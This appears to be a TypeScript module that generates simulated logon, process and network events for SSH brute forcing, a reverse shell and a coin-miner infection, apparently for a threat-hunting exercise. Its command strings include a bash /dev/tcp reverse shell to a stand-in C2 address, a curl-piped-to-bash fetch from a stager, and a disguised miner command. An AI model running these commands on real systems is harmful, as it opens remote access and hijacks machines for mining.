import { type Attack, type AttackScenario, SECOND, SUSPICIOUS_IPS } from './hunting-attack';
import type { HuntAccount } from './hunting-estate';
import { IMAGES } from './hunting-images';

const localAccount = (name: string, host: string): HuntAccount => ({
  name,
  domain: host,
  sid: '',
  upn: '',
  isAdmin: false,
});

/** Password guessing over SSH from one outside address. */
function sshBruteForce({ m, rng, f, t0, user, events }: Attack): void {
  const names = ['root', 'admin', 'ubuntu', 'test', 'oracle', user.name];
  const attempts = rng.int(15, 40);
  for (let i = 0; i < attempts; i += 1) {
    const name = rng.pick(names);
    const account = name === user.name ? user : localAccount(name, m.shortName);
    events.logon.push(
      f.logon({
        time: t0 + i * rng.int(2, 6) * SECOND,
        account,
        action: 'LogonFailed',
        logonType: 'Network',
        protocol: '',
        failureReason: 'InvalidUserNameOrPassword',
        remoteIp: SUSPICIOUS_IPS.bruteForce,
      }),
    );
  }
}

/** A reverse shell to the attacker: from a web shell on Linux, from a user's Python on a Mac. */
function reverseShell({ m, f, t0, user, events }: Attack): void {
  const linux = m.platform === 'linux';
  const account = linux ? localAccount('www-data', m.shortName) : user;
  const parent = linux ? IMAGES.nginx : IMAGES.python3;
  const command = `bash -c "bash -i >& /dev/tcp/${SUSPICIOUS_IPS.c2}/4444 0>&1"`;
  events.process.push(f.process({ time: t0, image: IMAGES.bash, command, account, parent }));
  events.network.push(
    f.network({
      time: t0 + 1 * SECOND,
      process: IMAGES.bash,
      processCommand: command,
      account,
      remoteIp: SUSPICIOUS_IPS.c2,
      remotePort: 4444,
    }),
  );
}

/** A script piped from the internet into a shell drops a coin miner. */
function coinMiner({ f, t0, user, events }: Attack): void {
  const fetch = `curl -fsSL http://${SUSPICIOUS_IPS.stager}/install.sh | bash`;
  const miner = `/tmp/.cache/kworkerd -o stratum+tcp://${SUSPICIOUS_IPS.stager}:3333 --donate-level 1 -B`;
  events.process.push(
    f.process({ time: t0, image: IMAGES.curl, command: fetch, account: user, parent: IMAGES.bash }),
    f.process({
      time: t0 + 6 * SECOND,
      image: IMAGES.miner,
      command: miner,
      account: user,
      parent: IMAGES.bash,
      parentCommand: 'bash',
    }),
  );
  events.network.push(
    f.network({
      time: t0 + 1 * SECOND,
      process: IMAGES.curl,
      processCommand: fetch,
      account: user,
      remoteIp: SUSPICIOUS_IPS.stager,
      remotePort: 80,
      remoteUrl: `http://${SUSPICIOUS_IPS.stager}/install.sh`,
    }),
    f.network({
      time: t0 + 8 * SECOND,
      process: IMAGES.miner,
      processCommand: miner,
      account: user,
      remoteIp: SUSPICIOUS_IPS.stager,
      remotePort: 3333,
    }),
  );
}

/** Attacks on Linux and macOS machines, with their relative odds. */
export const UNIX_ATTACKS: readonly AttackScenario[] = [
  { weight: 3, run: sshBruteForce },
  { weight: 2, run: reverseShell },
  { weight: 2, run: coinMiner },
];
